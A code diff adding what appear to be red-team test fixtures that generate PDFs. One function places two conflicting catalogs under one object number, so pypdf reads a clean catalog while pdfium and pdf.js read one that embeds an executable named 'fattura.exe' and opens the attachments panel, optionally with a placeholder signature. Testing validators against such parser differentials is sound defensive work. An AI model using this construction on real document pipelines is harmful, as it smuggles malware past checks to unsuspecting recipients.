@@ -477,3 +477,89 @@ def many_objects_pdf(count: int) -> bytes:
     ]
     objects += ["<< /A 1 >>"] * count
     return pdf_of(objects)
+
+
+# --- what pypdf and the viewers read differently, and payloads they reach ---------------------
+
+
+def xref_stream_pdf(
+    direct: dict[int, bytes], packed: list[tuple[int, bytes]], index_of: dict[int, int]
+) -> bytes:
+    """A PDF with a cross-reference stream: `direct` objects {number: body} written as
+    they are, `packed` (number, body) in one compressed object stream (numbered after
+    them, in that order, the same number twice if asked), and `index_of` {number: index}
+    the index the cross-reference gives for each packed object. Catalog: object 1."""
+    stm_num = max([*direct, *(n for n, _ in packed)]) + 1
+    xref_num = stm_num + 1
+    body = b""
+    positions = []
+    for number, raw in packed:
+        positions.append(f"{number} {len(body)}")
+        body += raw + b"\n"
+    header = " ".join(positions).encode() + b"\n"
+    packed_data = zlib.compress(header + body)
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = {}
+    for number in sorted(direct):
+        offsets[number] = len(out)
+        out += f"{number} 0 obj\n".encode() + direct[number] + b"\nendobj\n"
+    offsets[stm_num] = len(out)
+    out += (
+        f"{stm_num} 0 obj\n<< /Type /ObjStm /N {len(packed)} /First {len(header)} "
+        f"/Length {len(packed_data)} /Filter /FlateDecode >>\nstream\n"
+    ).encode() + packed_data + b"\nendstream\nendobj\n"
+    xref = offsets[xref_num] = len(out)
+    rows = []
+    for number in range(xref_num + 1):
+        if number in offsets:
+            rows.append((1, offsets[number], 0))
+        elif number in index_of:
+            rows.append((2, stm_num, index_of[number]))
+        else:
+            rows.append((0, 0, 65535 if number == 0 else 0))
+    table = b"".join(bytes([t]) + f.to_bytes(4, "big") + g.to_bytes(2, "big") for t, f, g in rows)
+    out += (
+        f"{xref_num} 0 obj\n<< /Type /XRef /Size {xref_num + 1} /W [1 4 2] /Root 1 0 R "
+        f"/Length {len(table)} >>\nstream\n"
+    ).encode() + table + b"\nendstream\nendobj\n"
+    out += f"startxref\n{xref}\n%%EOF\n".encode()
+    return bytes(out)
+
+
+_SIGNATURE = (
+    "<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
+    f"/ByteRange [0 {_RANGE_PLACEHOLDER}] /Contents <{'0' * _SIG_PLACEHOLDER}> >>"
+)
+_FIELD = "<< /FT /Sig /T (Firma) /V 6 0 R /Type /Annot /Subtype /Widget /Rect [0 0 0 0] >>"
+
+
+def catalog_twice(*, signed: bool) -> bytes:
+    """The red team's: the catalog (object 1) twice in one compressed object stream.
+    pypdf reads the first, a clean one; pdfium and pdf.js the one the cross-reference
+    gives, which attaches `fattura.exe` (stream 8) and opens the attachments panel."""
+    form = "/AcroForm << /Fields [7 0 R] /SigFlags 3 >> " if signed else ""
+    annots = "/Annots [7 0 R]" if signed else ""
+    exe = zlib.compress(EXE * 20)
+    direct = {
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: (
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+            f"/Resources << /Font << /F1 5 0 R >> >> {annots} >>"
+        ).encode(),
+        4: stream(PAGE_TEXT),
+        5: FONT.encode(),
+        8: f"<< /Length {len(exe)} /Filter /FlateDecode >>\nstream\n".encode()
+        + exe
+        + b"\nendstream",
+    }
+    if signed:
+        direct[6] = _SIGNATURE.encode()
+        direct[7] = _FIELD.encode()
+    clean = f"<< /Type /Catalog /Pages 2 0 R {form}/PieceInfo 8 0 R >>".encode()
+    shown = (
+        f"<< /Type /Catalog /Pages 2 0 R {form}/Names << /EmbeddedFiles << /Names "
+        "[(fattura.exe) << /Type /Filespec /F (fattura.exe) /EF << /F 8 0 R >> >>] >> >> "
+        "/PageMode /UseAttachments >>"
+    ).encode()
+    pdf = xref_stream_pdf(direct, [(1, clean), (1, shown)], {1: 1})
+    return sign_placeholder(pdf) if signed else pdf
